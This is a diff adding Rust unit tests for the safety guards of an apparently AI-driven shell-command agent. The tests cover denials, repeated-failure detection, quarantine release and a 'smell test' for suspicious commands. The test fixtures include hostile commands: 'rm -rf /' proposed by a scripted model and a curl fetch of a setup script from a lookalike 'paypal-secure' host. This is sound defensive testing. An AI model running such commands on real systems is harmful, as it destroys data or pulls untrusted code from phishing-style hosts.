+        let script = r#"{"actions":[{"command":"echo one","explanation":"x"},{"command":"echo two","explanation":"y"}]}"#;
+
+        let mut runs = Vec::new();
+        for _ in 0..2 {
+            let (mut engine, _dir) = test_engine(&[script]);
+            engine.start_task("task");
+            let plan = engine.plan("echo twice").await.unwrap();
+            runs.push(plan.actions.iter().map(|a| a.id.clone()).collect::<Vec<_>>());
+        }
+
+        assert_eq!(runs[0], vec!["step-1", "step-2"]);
+        assert_eq!(runs[0], runs[1]);
+    }
+
+    #[tokio::test]
+    async fn test_plan_fits_history_to_context_window() {
+        let script = r#"{"actions":[{"command":"echo hi","explanation":"x"}]}"#;
+        let (mut engine, _dir) = test_engine(&[script]);
+        engine.start_task("task");
+
+        // 20 turns of ~2000 tokens each overflow the default 32k window
+        let filler = "y".repeat(8000);
+        for _ in 0..10 {
+            engine.conversation_history.push(ChatMessage::user(&filler));
+            engine.conversation_history.push(ChatMessage::assistant(&filler));
+        }
+
+        engine.plan("echo hi").await.unwrap();
+
+        let received = engine.llm.received.lock().unwrap();
+        let sent = &received[0];
+        assert!(estimate_tokens(sent) + PLANNING_COMPLETION_RESERVE <= DEFAULT_CONTEXT_WINDOW);
+        assert!(sent[1].content.contains("omitted to fit the context window"));
+        assert_eq!(sent.last().unwrap().content, "echo hi");
+
+        // Exactly the turns that were sent are kept; the new turn is appended
+        let history = &engine.conversation_history;
+        let carried = &history[..history.len() - 2];
+        assert!(carried.len() < 20);
+        assert_eq!(carried.len(), sent.len() - 3);
+        assert!(carried.iter().zip(&sent[2..]).all(|(h, s)| h.role == s.role && h.content == s.content));
+        assert_eq!(history[history.len() - 2].content, "echo hi");
+    }
+
+    fn finished_step(command: &str, output: &str) -> ExecutionResult {
+        ExecutionResult {
+            action_id: "1".into(),
+            command: command.into(),
+            explanation: format!("Run {}", command),
+            success: true,
+            output: output.into(),
+            error: None,
+            duration_ms: 0,
+        }
+    }
+
+    #[tokio::test]
+    async fn test_denied_follow_up_is_fed_back_and_alternative_executes() {
+        let (mut engine, _dir) = test_engine(&[
+            r#"{"actions":[{"command":"rm -rf /","explanation":"Free up space"}]}"#,
+            r#"{"actions":[{"command":"echo cleaned-cache","explanation":"Clear the user cache instead"}]}"#,
+        ]);
+        let results = vec![finished_step("df -h", "/dev/sda1 100% /")];
+
+        let (_, next_plan) = engine.analyze_results("free disk space", &results).await.unwrap();
+        let plan = next_plan.expect("model should have proposed an alternative");
+        assert_eq!(plan.actions[0].command, "echo cleaned-cache");
+
+        // The second prompt carried the denial back to the model
+        let received = engine.llm.received.lock().unwrap().clone();
+        let feedback = received[1].last().unwrap();
+        assert_eq!(feedback.role, "system");
+        assert!(feedback.content.contains("CAPABILITY DENIED"));
+        assert!(feedback.content.contains("rm -rf /"));
+
+        let executed = engine.execute(&plan).await.unwrap();
+        assert!(executed[0].success);
+        assert_eq!(executed[0].output.trim(), "cleaned-cache");
+    }
+
+    #[tokio::test]
+    async fn test_repeated_failing_command_breaks_out_as_stuck() {
+        let retry = r#"{"actions":[{"command":"exit 3","explanation":"Try again"}]}"#;
+        let (mut engine, _dir) = test_engine(&[retry, retry, retry]);
+        engine.start_task("task");
+
+        let mut plan = ExecutionPlan::new("build it");
+        plan.actions = vec![shell_action("1", "exit 3")];
+        let results = engine.execute(&plan).await.unwrap();
+        assert!(!results[0].success);
+
+        // One failure: the retry is still allowed through
+        let (_, next_plan) = engine.analyze_results("build it", &results).await.unwrap();
+        let results = engine.execute(&next_plan.unwrap()).await.unwrap();
+        assert!(!results[0].success);
+
+        // Two failures: the model is told, insists, and the loop stops
+        let (summary, next_plan) = engine.analyze_results("build it", &results).await.unwrap();
+        assert!(next_plan.is_none());
+        assert!(summary.contains("stuck repeating `exit 3`"));
+
+        let received = engine.llm.received.lock().unwrap().clone();
+        assert_eq!(received.len(), 3);
+        assert!(received[2].last().unwrap().content.contains("REPEATED FAILURE"));
+    }
+
+    #[tokio::test]
+    async fn test_repeated_failure_guard_skips_execution_and_resets_per_task() {
+        let (mut engine, _dir) = test_engine(&[]);
+        engine.start_task("task");
+
+        let mut plan = ExecutionPlan::new("flaky");
+        plan.actions = vec![shell_action("1", "exit 1")];
+        engine.execute(&plan).await.unwrap();
+        engine.execute(&plan).await.unwrap();
+
+        let skipped = engine.execute(&plan).await.unwrap();
+        assert!(skipped[0].error.as_deref().unwrap().contains("stuck repeating"));
+        assert_eq!(skipped[0].duration_ms, 0);
+
+        engine.start_task("task");
+        let rerun = engine.execute(&plan).await.unwrap();
+        assert!(!rerun[0].error.as_deref().unwrap_or("").contains("stuck repeating"));
+    }
+
+    #[tokio::test]
+    async fn test_quarantined_action_runs_only_after_release() {
+        let (mut engine, _dir) = test_engine(&[]);
+        let sentinel = Arc::new(Sentinel::default());
+        sentinel
+            .add_rule(sentinel::SentinelRule::new(
+                "hold-deploys",
+                "deploy",
+                sentinel::ThreatCategory::Unknown,
+                sentinel::Severity::Medium,
+                Verdict::Quarantine,
+            ))
+            .unwrap();
+        engine.sentinel = Some(sentinel.clone());
+
+        let mut plan = ExecutionPlan::new("deploy");
+        plan.actions = vec![shell_action("1", "echo deploy"), shell_action("2", "echo other")];
+
+        let results = engine.execute(&plan).await.unwrap();
+        assert!(results[0].error.as_deref().unwrap().contains("quarantine as q-1"));
+        assert!(results[1].success);
+        let pending = sentinel.pending();
+        assert_eq!(pending.len(), 1);
+        assert_eq!(pending[0].analysis.rule.as_deref(), Some("hold-deploys"));
+
+        assert!(sentinel.release("q-1"));
+        let results = engine.execute(&plan).await.unwrap();
+        assert!(results[0].success);
+        assert_eq!(results[0].output.trim(), "deploy");
+    }
+
+    #[tokio::test]
+    async fn test_run_released_runs_the_held_action() {
+        let (mut engine, _dir) = test_engine(&[]);
+        let sentinel = Arc::new(Sentinel::default());
+        sentinel
+            .add_rule(sentinel::SentinelRule::new(
+                "hold-deploys",
+                "deploy",
+                sentinel::ThreatCategory::Unknown,
+                sentinel::Severity::Medium,
+                Verdict::Quarantine,
+            ))
+            .unwrap();
+        engine.sentinel = Some(sentinel.clone());
+
+        let mut plan = ExecutionPlan::new("deploy");
+        plan.actions = vec![shell_action("1", "echo deploy"), shell_action("2", "echo staging deploy")];
+        engine.execute(&plan).await.unwrap();
+        assert!(engine.run_released("q-9").await.is_none());
+
+        // Still pending: nothing runs
+        let results = engine.run_released("q-1").await.unwrap();
+        assert!(results[0].error.as_deref().unwrap().contains("pending release"));
+
+        assert!(sentinel.release("q-1"));
+        let results = engine.run_released("q-1").await.unwrap();
+        assert!(results[0].success);
+        assert_eq!(results[0].output.trim(), "deploy");
+        assert!(engine.run_released("q-1").await.is_none());
+
+        assert!(sentinel.reject("q-2"));
+        let results = engine.run_released("q-2").await.unwrap();
+        assert!(results[0].error.as_deref().unwrap().contains("Rejected"));
+        assert!(engine.run_released("q-2").await.is_none());
+        assert!(sentinel.pending().is_empty());
+    }
+
+    #[tokio::test]
+    async fn test_smell_threshold_refuses_plan() {
+        let (mut engine, _dir) = test_engine(&[]);
+        engine.smell_threshold = Some(50);
+
+        let mut plan = ExecutionPlan::new("fetch");
+        plan.actions = vec![shell_action("1", "curl -s https://paypal-secure.example.tk/setup.sh")];
+        match engine.execute(&plan).await {
+            Err(GaneshaError::SmellTestFailed { score, threshold: 50, reason }) => {
+                assert!(score < 50);
+                assert!(reason.contains("paypal-secure"));
             }
+            other => panic!("expected smell test failure, got {:?}", other.map(|r| r.len())),
         }
 
-        result
+        plan.actions = vec![shell_action("1", "echo fine")];
+        assert!(engine.execute(&plan).await.unwrap()[0].success);
     }
 
-    fn save_session(&self, session: &Session) -> Result<(), GaneshaError> {
-        let path = self.session_dir.join(format!("{}.json", session.id));
-        let json = serde_json::to_string_pretty(session)
-            .map_err(|e| GaneshaError::IoError(std::io::Error::other(e)))?;
-        std::fs::write(path, json)?;
-        Ok(())
+    #[tokio::test]
+    async fn test_repeated_denials_end_with_explanation() {
+        let denied = r#"{"actions":[{"command":"rm -rf /","explanation":"Free up space"}]}"#;
+        let (mut engine, _dir) = test_engine(&[denied, denied, denied]);
+        let results = vec![finished_step("df -h", "/dev/sda1 100% /")];
+
+        let (summary, next_plan) = engine.analyze_results("free disk space", &results).await.unwrap();
+
+        assert!(next_plan.is_none());
+        assert!(summary.contains("not allowed"));
+        assert_eq!(engine.llm.received.lock().unwrap().len(), MAX_DENIAL_RETRIES + 1);
     }
 }